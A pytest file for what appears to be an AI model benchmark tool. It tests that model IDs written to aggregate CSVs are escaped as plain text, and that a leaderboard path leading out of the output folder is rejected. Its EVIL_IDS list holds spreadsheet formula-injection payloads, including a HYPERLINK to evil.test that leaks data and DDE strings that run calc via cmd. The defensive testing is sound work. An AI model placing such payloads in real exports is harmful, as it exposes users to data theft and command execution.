"""Files written from suite and model text: CSV cells are never formulas, a leaderboard stays in the output folder."""

from __future__ import annotations

import csv
import io
import json

import pytest

EVIL_IDS = ['=HYPERLINK("http://evil.test/?leak","click")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]

SUITE = """\
models:
{models}
tasks:
  - id: t
    prompt: hi
    scorers:
      - {{name: C, type: contains, value: hi}}
aggregates:
  tables:
    - name: by_id
      by: [model_id]
      csv: by_id.csv
      columns:
        - {{name: n, fn: count}}
        - {{name: mean_c, fn: mean, of: C}}
"""


def test_aggregate_csv_shows_hostile_model_ids_as_text(pytester: pytest.Pytester) -> None:
    models = "\n".join(f"  m{i}: {{provider: echo, id: {json.dumps(model_id)}}}" for i, model_id in enumerate(EVIL_IDS))
    pytester.makefile(".yaml", **{"suites/evil": SUITE.format(models=models)})
    result = pytester.runpytest("suites", "-p", "no:cacheprovider", "--bench-html", "off")
    result.assert_outcomes(passed=3)
    rows = list(csv.reader(io.StringIO((pytester.path / "bench-results" / "by_id.csv").read_text())))
    assert rows[0] == ["model_id", "n", "mean_c"]
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + model_id for model_id in EVIL_IDS)
    assert all(row[1:] == ["1", "1.0000"] for row in rows[1:])  # the figures are numbers still


def test_a_leaderboard_dir_out_of_the_output_folder_stops_collection(pytester: pytest.Pytester) -> None:
    suite = ("models:\n  a: {provider: echo}\n  b: {provider: echo}\ntasks:\n  - id: t\n    prompt: hi\n"
             "    scorers: [{name: C, type: contains, value: hi}]\n"
             "leaderboard: {of: C, sessions: cases, dir: ../../x}\n")
    pytester.makefile(".yaml", **{"suites/board": suite})
    result = pytester.runpytest("suites", "-p", "no:cacheprovider", "--bench-html", "off")
    assert result.ret != 0
    result.stdout.fnmatch_lines([
        "*suites/board.yaml:8: leaderboard.dir: dir '../../x' leads out of the output folder: a suite writes its "
        "leaderboard inside the output folder only (--bench-output)",
        "*hint: give a folder relative to the output folder*dir: x",
        "*Interrupted: 1 error during collection*",
    ])
    assert not (pytester.path.parent / "x").exists()
